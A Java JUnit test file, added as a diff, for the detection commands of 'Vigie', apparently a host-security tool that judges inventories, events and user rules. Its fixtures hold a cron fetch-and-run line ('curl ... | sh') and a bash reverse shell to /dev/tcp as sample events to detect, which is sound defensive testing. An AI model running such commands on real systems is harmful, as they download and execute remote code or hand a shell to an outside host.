@@ -1,0 +1,112 @@
+package bzh.vigie.collector;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.io.IOException;
+import java.io.PrintWriter;
+import java.io.StringWriter;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import picocli.CommandLine;
+
+final class DetectCommandTest {
+    private static final String BACKUP =
+            "{\"kind\":\"item\",\"os\":\"linux\",\"location\":\"linux.cron.system\",\"source\":\"/etc/cron.d/backup\","
+                    + "\"name\":\"backup\",\"value\":\"/usr/local/sbin/backup\",\"shipped\":\"unowned\","
+                    + "\"techniques\":[\"T1053.003\"],\"fingerprint\":\"1:a\",\"key\":\"k1\",\"traits\":[]}\n";
+    private static final String ONE_LINER =
+            "{\"kind\":\"item\",\"os\":\"linux\",\"location\":\"linux.cron.system\",\"source\":\"/etc/cron.d/x\","
+                    + "\"name\":\"x\",\"value\":\"curl http://203.0.113.9/a | sh\",\"shipped\":\"unowned\","
+                    + "\"techniques\":[\"T1053.003\"],\"fingerprint\":\"1:b\",\"key\":\"k2\","
+                    + "\"traits\":[\"network-tool\",\"inline-script\"]}\n";
+
+    private final StringWriter out = new StringWriter();
+    private final StringWriter err = new StringWriter();
+
+    private int run(Object command, String... arguments) {
+        return new CommandLine(command)
+                .setOut(new PrintWriter(out, true))
+                .setErr(new PrintWriter(err, true))
+                .execute(arguments);
+    }
+
+    private static String write(Path folder, String name, String text) throws IOException {
+        return Files.writeString(folder.resolve(name), text).toString();
+    }
+
+    @Test
+    void anInventoryIsJudgedAsAlreadyThere(@TempDir Path folder) throws IOException {
+        String scan = write(
+                folder, "scan.jsonl", BACKUP + ONE_LINER + "{\"kind\":\"summary\",\"items\":2}\n");
+        assertEquals(3, run(new DetectCommand(), "--inventory", scan, "--format", "jsonl", "--lang", "en"));
+        String[] lines = out.toString().strip().split("\n", -1);
+        assertEquals(1, lines.length);
+        assertTrue(lines[0].startsWith("{\"rule\":\"vigie-linux-network-one-liner\""));
+        assertTrue(lines[0].contains("\"severity\":\"high\""));
+        assertTrue(lines[0].contains("already there when Vigie was installed"));
+        assertTrue(err.toString().contains("2 events read"));
+    }
+
+    @Test
+    void twoInventoriesShowWhatCameAndWent(@TempDir Path folder) throws IOException {
+        String before = write(folder, "before.jsonl", BACKUP);
+        String after = write(folder, "after.jsonl", ONE_LINER);
+        assertEquals(3, run(new DetectCommand(), "--inventory", before, after, "--format", "jsonl"));
+        assertTrue(out.toString().contains("\"change\":\"added\""));
+        assertTrue(out.toString().contains("vigie-item-removed"));
+        assertEquals(0, run(new DetectCommand(), "--inventory", before, before));
+    }
+
+    @Test
+    void eventsAreJudgedWithRulesOfTheUserToo(@TempDir Path folder) throws IOException {
+        Path rules = Files.createDirectory(folder.resolve("rules"));
+        write(
+                rules,
+                "whoami.yml",
+                "title: Who am I\nid: x1\nlogsource: {product: windows, category: process_creation}\n"
+                        + "detection:\n  s: {Image|endswith: '\\whoami.exe'}\n  condition: s\nlevel: low\n");
+        write(rules, "bad.yml", "title: bad\nlogsource: {product: linux}\ndetection:\n  s: {a|odd: 1}\n  condition: s\n");
+        String events = write(
+                folder,
+                "events.jsonl",
+                "{\"Channel\":\"Security\",\"EventID\":4688,\"Computer\":\"PC1\",\"NewProcessName\":\"C:\\\\Windows\\\\whoami.exe\"}\n"
+                        + "{\"kind\":\"process-started\",\"sensor\":\"linux.x\",\"Image\":\"/usr/bin/bash\",\"CommandLine\":\"bash -i >& /dev/tcp/1.2.3.4/5\"}\n"
+                        + "no json\n");
+        assertEquals(
+                3,
+                run(new DetectCommand(), "--rules", rules.toString(), "--events", events, "--lang", "fr"));
+        assertTrue(out.toString().contains("Who am I"));
+        assertTrue(out.toString().contains("Un shell a été relié à une connexion réseau"));
+        assertTrue(err.toString().contains("bad.yml:4"));
+        assertTrue(err.toString().contains("1 lignes n'ont pas pu être lues"));
+    }
+
+    @Test
+    void whatIsNotThereYetIsSaid() {
+        assertEquals(2, run(new DetectCommand(), "--evtx", "x.evtx", "--lang", "en"));
+        assertTrue(err.toString().contains("--evtx is not in this version yet"));
+        assertEquals(2, run(new DetectCommand(), "--lang", "fr"));
+        assertTrue(err.toString().contains("Rien à juger"));
+    }
+
+    @Test
+    void aMissingFileIsNamedWithoutAStackTrace(@TempDir Path folder) {
+        String missing = folder.resolve("missing.jsonl").toString();
+        assertEquals(1, run(new DetectCommand(), "--events", missing));
+        assertTrue(err.toString().contains("missing.jsonl"));
+        assertFalse(err.toString().contains("Exception"));
+    }
+
+    @Test
+    void rulesAreCheckedWithFileLineAndReason(@TempDir Path folder) throws IOException {
+        write(folder, "bad.yml", "title: bad\nlogsource: {product: linux}\ndetection:\n  s: {a|odd: 1}\n  condition: s\n");
+        assertEquals(3, run(new RulesCommand(), "check", folder.toString(), "--lang", "fr"));
+        assertTrue(out.toString().contains("bad.yml:4: modifier 'odd' is not supported"));
+        assertTrue(out.toString().contains("0 règles seraient chargées, 1 sont refusées."));
+        assertEquals(1, run(new RulesCommand(), "check", folder.resolve("none").toString()));
+    }
+}
